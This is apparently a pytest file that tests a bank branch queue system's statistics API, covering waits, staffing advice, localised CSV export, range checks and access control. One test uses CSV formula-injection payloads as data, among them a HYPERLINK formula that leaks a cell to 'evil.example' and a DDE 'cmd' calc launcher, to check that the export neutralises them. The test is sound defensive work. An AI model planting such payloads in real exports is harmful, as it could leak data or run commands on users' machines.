"""Statistics over a day driven by the fake clock: waits, service times, target, feedback, staffing."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from tests.api.test_walk_in_flow import issue

DAY = "2026-11-23"  # the fake clock's Monday; 10:00 in Shanghai


def stats(client: Any, branch: Any, first: str = DAY, last: str = DAY, who: str = "manager", csv: bool = False) -> Any:
    path = f"/api/v1/branches/{branch.id}/stats{'.csv' if csv else ''}"
    return client.get(path, query_string={"from": first, "to": last}, headers=branch.headers(who))


@pytest.fixture
def served_day(client, branch, clock) -> dict[str, Any]:
    """10:00 three arrive; counter 1 serves A001 and A002, B001 does not come; at 11:00 A003 leaves."""
    teller = branch.headers()
    counter = branch.counters[1]
    first, vip, other = (
        issue(client, branch).json,
        issue(client, branch, cls="vip").json,
        issue(client, branch, "B").json,
    )
    client.post(f"/api/v1/counters/{counter}/open", headers=teller)

    def serve(ticket: dict[str, Any], wait_after: float, service: float) -> None:
        clock.advance(wait_after)
        client.post(f"/api/v1/counters/{counter}/call", json={"ticket_id": ticket["id"]}, headers=teller)
        client.post(f"/api/v1/tickets/{ticket['id']}/start", headers=teller)
        clock.advance(service)
        assert client.post(f"/api/v1/tickets/{ticket['id']}/finish", headers=teller).json["status"] == "done"

    serve(first, 300, 240)  # called 10:05 (waited 300 s), served 240 s
    # the customer's rating, entered by the manager (a teller does not rate their own service)
    client.post(f"/api/v1/tickets/{first['id']}/feedback", json={"score": 5}, headers=branch.headers("manager"))
    serve(vip, 0, 360)  # called 10:09 (waited 540 s), served 360 s
    client.post(f"/api/v1/counters/{counter}/call", json={"ticket_id": other["id"]}, headers=teller)  # 10:15
    clock.advance(60)
    client.post(f"/api/v1/tickets/{other['id']}/no-show", headers=teller)
    clock.advance(44 * 60)  # 11:00
    late = issue(client, branch).json
    client.post(f"/api/v1/tickets/{late['id']}/cancel", json={}, headers=teller)
    return {"first": first, "vip": vip, "other": other, "late": late}


def test_a_day_of_tickets_gives_waits_service_times_target_share_and_feedback(client, branch, served_day):
    response = stats(client, branch)
    assert response.status_code == 200, response.json
    report = response.json
    assert report["from"] == report["to"] == DAY and report["days"] == 1
    total = report["total"]
    assert (total["tickets"], total["served"], total["no_shows"], total["cancelled"]) == (4, 2, 1, 1)
    assert total["wait"] == {"mean": 580, "p50": 540, "p90": 828}  # 300, 540 and the no-show's 900
    assert total["service_time"] == {"mean": 300, "p50": 300, "p90": 348}
    assert total["within_target"] == 1.0 and total["feedback_mean"] == 5 and total["feedback_count"] == 1

    by_service = {s["prefix"]: s for s in report["services"]}
    assert (by_service["A"]["tickets"], by_service["A"]["served"], by_service["A"]["cancelled"]) == (3, 2, 1)
    assert by_service["B"]["no_shows"] == 1 and by_service["B"]["within_target"] is None
    by_class = {c["customer_class"]: c["tickets"] for c in report["classes"]}
    assert by_class == {"regular": 3, "vip": 1, "priority": 0, "appointment": 0}
    [teller] = report["tellers"]
    assert teller["username"] == "teller-b1" and teller["tickets"] == 3 and teller["served"] == 2


def test_hours_are_the_branch_local_hours_of_arrival_with_staffing_advice(client, branch, served_day):
    report = stats(client, branch).json
    assert [(h["hour"], h["tickets"]) for h in report["hours"]] == [(10, 3), (11, 1)]  # 02:00 UTC is 10:00 here
    ten = next(s for s in report["staffing"] if s["hour"] == 10)
    assert ten["arrivals_per_hour"] == 3 and ten["mean_service"] == 300 and ten["target_wait"] == 600
    assert ten["counters"] == 1 and ten["meets_target"] and ten["counters_used"] == 1


def _csv(response: Any) -> list[dict[str, str]]:
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")  # the BOM: Excel then reads the file as UTF-8
    return list(csv.DictReader(io.StringIO(body[1:])))


def test_the_csv_holds_the_same_figures(client, branch, served_day):
    response = stats(client, branch, csv=True)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == f'attachment; filename="branchq-B1-stats-{DAY}_{DAY}.csv"'
    rows = _csv(response)
    total = next(r for r in rows if r["Group"] == "Total")
    figures = (total["Tickets"], total["Served"], total["Wait median (s)"], total["Called within target (%)"])
    assert figures == ("4", "2", "540", "100.0")
    assert {r["Group"] for r in rows} == {"Total", "Service", "Customer class", "Teller", "Hour"}
    ten = next(r for r in rows if r["Group"] == "Hour" and r["Key"] == "10")
    assert ten["Name"] == "10:00" and ten["Counters advised"] == "1"


def test_the_csv_speaks_the_readers_language_with_units_in_the_headers(client, branch, served_day):
    path = f"/api/v1/branches/{branch.id}/stats.csv"
    query = {"from": DAY, "to": "2026-11-29", "lang": "zh"}
    response = client.get(path, query_string=query, headers=branch.headers("manager"))
    assert response.headers["Content-Disposition"].endswith('filename="branchq-B1-stats-2026-11-23_2026-11-29.csv"')
    rows = _csv(response)
    assert list(rows[0])[:4] == ["分组", "键", "名称", "取号数"]
    assert "平均等候（秒）" in rows[0] and "目标内叫号（%）" in rows[0]
    service = next(r for r in rows if r["分组"] == "业务" and r["键"] == "A")
    assert service["名称"] == "业务A"
    regular = next(r for r in rows if r["分组"] == "客户类别" and r["键"] == "regular")
    assert regular["名称"] == "普通"
    refused = client.get(path, query_string=query | {"lang": "fr"}, headers=branch.headers("manager"))
    assert refused.status_code == 422 and "lang" in refused.get_data(as_text=True)


def test_arrivals_by_weekday_and_hour_for_the_heat_map(client, branch, served_day):
    report = stats(client, branch).json
    # Monday (0): three at 10:00, one at 11:00, over one Monday with tickets
    assert report["arrivals"] == [
        {"weekday": 0, "hour": 10, "tickets": 3, "per_day": 3.0},
        {"weekday": 0, "hour": 11, "tickets": 1, "per_day": 1.0},
    ]


def test_days_without_tickets_give_empty_figures(client, branch, served_day):
    report = stats(client, branch, "2026-11-24", "2026-11-30").json
    assert report["days"] == 0 and report["total"]["tickets"] == 0 and report["total"]["wait"] is None
    assert report["hours"] == [] and report["staffing"] == []


@pytest.mark.parametrize(
    ("first", "last"),
    [("2026-13-01", DAY), ("yesterday", DAY), (DAY, ""), ("2026-11-24", DAY), ("2025-11-22", DAY)],
    ids=["no_such_month", "not_a_date", "no_end", "from_after_to", "367_days"],
)
def test_bad_ranges_are_refused(client, branch, first, last):
    response = stats(client, branch, first, last)
    assert response.status_code == 422, response.json
    assert response.json["error"]["code"] in ("validation_error", "invalid_range", "range_too_long")


def test_a_range_of_366_days_is_accepted(client, branch):
    assert stats(client, branch, "2025-11-23", DAY).status_code == 200


def test_only_managers_of_the_branch_see_statistics(client, branch, deps):
    from tests.support.builders import build_branch

    assert stats(client, branch, who="teller").status_code == 403
    assert stats(client, branch, who="kiosk").status_code == 403
    other = build_branch(deps, code="B2")
    assert stats(client, branch, who="manager").status_code == 200
    assert (
        client.get(
            f"/api/v1/branches/{other.id}/stats?from={DAY}&to={DAY}", headers=branch.headers("manager")
        ).status_code
        == 403
    )


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"],
)
def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(client, branch, name):
    manager = branch.headers("manager")
    body = {"name": {"zh": name, "en": name}, "prefix": "F", "target_wait": 600, "expected_service": 300}
    service = client.post(f"/api/v1/branches/{branch.id}/services", json=body, headers=manager).json
    ticket = client.post(
        f"/api/v1/branches/{branch.id}/tickets", json={"service_id": service["id"]}, headers=branch.headers("kiosk")
    )
    assert ticket.status_code == 201
    rows = _csv(stats(client, branch, csv=True))
    [row] = [r for r in rows if r["Group"] == "Service" and r["Key"] == "F"]
    assert row["Name"] == "'" + name
    assert row["Tickets"] == "1"  # figures are left as they are


def test_tabs_and_returns_that_start_a_cell_are_escaped_too_but_numbers_are_not():
    from server.web.stats_csv import spreadsheet_safe

    assert [spreadsheet_safe(c) for c in ("\tx", "\rx", "x=1", "", -5, 2.5, None)] == [
        "'\tx",
        "'\rx",
        "x=1",
        "",
        -5,
        2.5,
        None,
    ]
